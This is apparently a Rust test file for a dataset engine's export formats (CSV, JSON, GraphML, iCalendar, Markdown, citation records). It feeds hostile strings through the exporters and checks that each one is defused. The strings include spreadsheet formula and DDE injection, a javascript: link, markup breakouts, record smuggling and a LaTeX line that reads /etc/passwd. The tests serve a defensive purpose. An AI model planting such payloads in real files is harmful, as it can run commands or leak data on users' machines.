//! What leaves the engine comes back as it was, whatever stands in a dataset: formulas, quotation marks, line breaks, Khmer,
//! signs of no width, control characters. The readers here are plain ones that know nothing of the writers;
//! `take.test.mjs` reads the same formats with packages of other people.

#[path = "export/readers.rs"]
mod readers;

use std::path::Path;

use entente::engine::Engine;
use entente::export::take::{Format, Options};
use entente::export::{cite, package};
use entente::pack;
use entente::query::answer;
use entente::seed;

/// Texts that some format would take for its own.
const HOSTILE: [&str; 16] = [
    "=HYPERLINK(\"http://x.example/?\"&A1;\"y\")",
    "+1+1",
    "-2+3 cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "'=1+1",
    " \u{200b}=1",
    "two \"quoted\" words, and a comma; a semicolon",
    "one line\r\nanother\nand\ranother",
    "ភាសា\u{200b}ខ្មែរ និង កាណាដា",
    "<b>&amp;</b> ]]> <!-- --> </script>",
    "a\u{1}b\u{7f}c\u{b}d",
    "[^1]: *stars* _lines_ `code` | # > [x](javascript:alert(1))",
    "BEGIN:VEVENT\\nEND:VCALENDAR,;\\",
    "TY  - HACK\r\nER  - \r\n",
    "}, title = {\\input{/etc/passwd}} % # $ & ~ ^ _",
];

#[test]
fn a_table_gives_every_statement_back() {
    let engine = hostile();
    let lines = readers::csv(&take(&engine, Format::Csv));
    let column = |name: &str| lines[0].iter().position(|head| head == name).expect("there is such a column");
    assert_eq!(lines.len(), 1 + engine.store().len());
    for (line, statement) in lines[1..].iter().zip(statements(&engine)) {
        assert_eq!(line.len(), lines[0].len());
        assert_eq!(armed(&line[column("statement")]), statement);
    }
    // Below the head no cell is left that a spreadsheet would run.
    for cell in lines[1..].iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '@', '\t', '\r', '\n']), "{cell:?}");
        assert!(!cell.starts_with('-') || cell.parse::<f64>().is_ok(), "{cell:?}");
    }
}

#[test]
fn lists_and_linked_data_give_every_statement_back() {
    let engine = hostile();
    for format in [Format::Json, Format::JsonLd] {
        let text = take(&engine, format);
        assert!(!text.contains('<'), "a page could not carry it within a script element");
        let value: serde_json::Value = serde_json::from_str(&text).expect("it is JSON");
        let relations = value["relations"].as_array().expect("a list of relations");
        let found: Vec<&str> = relations.iter().filter_map(|one| one["statement"].as_str()).collect();
        assert_eq!(found, statements(&engine));
    }
}

#[test]
fn a_graph_gives_every_statement_back() {
    let engine = hostile();
    let text = take(&engine, Format::GraphMl);
    // What XML cannot hold is replaced and not dropped, so that its absence is seen.
    let held = |statement: String| statement.replace(['\u{1}', '\u{b}'], "\u{fffd}");
    let expected: Vec<String> = statements(&engine).into_iter().map(held).collect();
    assert_eq!(readers::xml(&text, "statement"), expected);
}

#[test]
fn a_calendar_keeps_to_its_width_and_to_its_own_entries() {
    let engine = hostile();
    let text = take(&engine, Format::ICalendar);
    assert!(text.split("\r\n").all(|line| line.len() <= 75 && !line.contains(['\r', '\n'])), "{text}");
    let lines = readers::unfolded(&text);
    let count = |wanted: &str| lines.iter().filter(|line| *line == wanted).count();
    assert_eq!(count("BEGIN:VEVENT"), count("END:VEVENT"));
    assert_eq!((count("BEGIN:VCALENDAR"), count("END:VCALENDAR")), (1, 1));
    let summaries = lines.iter().filter(|line| line.starts_with("SUMMARY:")).count();
    assert!(summaries > 0 && summaries == count("BEGIN:VEVENT"));
}

#[test]
fn a_note_has_a_footnote_for_each_relation_and_nothing_that_becomes_html() {
    let engine = hostile();
    let text = take(&engine, Format::Markdown);
    let n_notes = text.lines().filter(|line| line.starts_with("[^") && line.contains("]: ")).count();
    assert_eq!(n_notes, engine.store().len());
    for at in text.match_indices('<').map(|(at, _)| at) {
        assert!(text[..at].ends_with('\\') || text[at..].starts_with("<http"), "{}", &text[at..]);
    }
}

#[test]
fn a_record_for_reference_managers_has_one_entry_whatever_a_title_says() {
    let engine = hostile();
    for source in &engine.store().catalogue.sources {
        let all = engine.cite("source", &source.key, &cite::Options::default()).expect("the source is there");
        let text = |style: &str| &all.iter().find(|one| one.style == style).expect("every style is given").text;
        assert_eq!(text("ris").lines().filter(|line| line.starts_with("TY  - ")).count(), 1);
        assert_eq!(readers::depth(text("biblatex")), 0, "{}", text("biblatex"));
        assert!(!text("biblatex").contains("\\input"));
        let csl: serde_json::Value = serde_json::from_str(text("csl-json")).expect("it is JSON");
        assert_eq!(csl[0]["title"], source.title.en.as_str());
    }
}

#[test]
fn the_package_holds_every_record_and_points_only_to_what_is_there() {
    for engine in [Engine::embedded(), hostile()] {
        let files = package::package(engine.store());
        let text = |path: &str| &files.iter().find(|(own, _)| own == path).expect("it is in the package").1;
        let about: serde_json::Value = serde_json::from_str(text("datapackage.json")).expect("it is JSON");
        let table = |name: &str| readers::csv(text(&format!("{name}.csv")));
        let cells = |name: &str, field: &str| -> Vec<String> {
            let lines = table(name);
            let at = lines[0].iter().position(|head| head == field).expect("there is such a column");
            lines[1..].iter().map(|line| line[at].clone()).filter(|cell| !cell.is_empty()).collect()
        };
        let resources = about["resources"].as_array().expect("a list of tables");
        assert_eq!(resources.len() + 1, files.len());
        for resource in resources {
            let name = resource["name"].as_str().expect("a table has a name");
            let fields = resource["schema"]["fields"].as_array().expect("a table has columns");
            let names: Vec<&str> = fields.iter().filter_map(|field| field["name"].as_str()).collect();
            assert_eq!(table(name)[0], names, "{name}");
            for key in resource["schema"]["foreignKeys"].as_array().expect("a list") {
                let known = cells(key["reference"]["resource"].as_str().expect("a table's name"), "key");
                let field = key["fields"].as_str().expect("a column's name");
                let lost: Vec<String> = cells(name, field).into_iter().filter(|cell| !known.contains(cell)).collect();
                assert!(lost.is_empty(), "{name}.{field} points to {lost:?}");
            }
        }
        assert_eq!(cells("relations", "key").len(), engine.store().len());
        let n_passages: usize = (0..engine.store().len() as u32)
            .map(|id| engine.store().relation(entente::model::RelationId(id)).evidence.len())
            .sum();
        assert_eq!(cells("relation-evidence", "paragraph").len(), n_passages);
    }
}

/// The miniature, every text of which is one that some format would take for its own.
fn hostile() -> Engine {
    let files = seed::read(Path::new("tests/mini/seeds")).expect("the miniature can be read");
    let (mut dataset, _) = seed::compile(&files).unwrap_or_else(|findings| panic!("{findings:?}"));
    let mut texts = HOSTILE.iter().cycle();
    let mut next = || texts.next().map(|text| (*text).to_owned()).unwrap_or_default();
    for relation in &mut dataset.relations {
        relation.statement.en = next();
    }
    for source in &mut dataset.sources {
        source.title.en = next();
        source.short = None;
    }
    for entity in &mut dataset.entities {
        entity.name.en = next();
    }
    // All texts have their turn as a statement, and a day to stand on.
    let model = dataset.relations[0].clone();
    for (at, text) in HOSTILE.iter().enumerate() {
        let mut relation = model.clone();
        relation.key = format!("hostile-{at}");
        relation.statement.en = (*text).to_owned();
        relation.when = Some(entente::model::When {
            date: entente::date::Date::parse("2024-05-06").expect("it is a date"),
            basis: entente::model::BasisId(0),
        });
        dataset.relations.push(relation);
    }
    dataset.relations.sort_by_key(|relation| relation.when.as_ref().map_or(i32::MAX, |when| when.date.earliest().0));
    Engine::open(pack::write(&dataset, pack::Index::LeftOut)).expect("it was written a moment ago")
}

fn take(engine: &Engine, format: Format) -> String {
    engine.take("sort:source", format, &Options::default()).expect("the query is understood").text
}

fn statements(engine: &Engine) -> Vec<String> {
    let options = answer::Options { size: answer::Options::MOST, ..answer::Options::default() };
    let answer = engine.answer("sort:source", options).expect("the query is understood");
    answer.relations.into_iter().map(|relation| relation.statement.text).collect()
}

/// A cell as it was before it was kept from being a formula: less one apostrophe, where a formula comes after.
fn armed(cell: &str) -> String {
    let is_defused = cell.starts_with('\'')
        && cell.trim_start_matches(['\'', ' ', '\u{200b}']).starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
    if is_defused { cell[1..].to_owned() } else { cell.to_owned() }
}
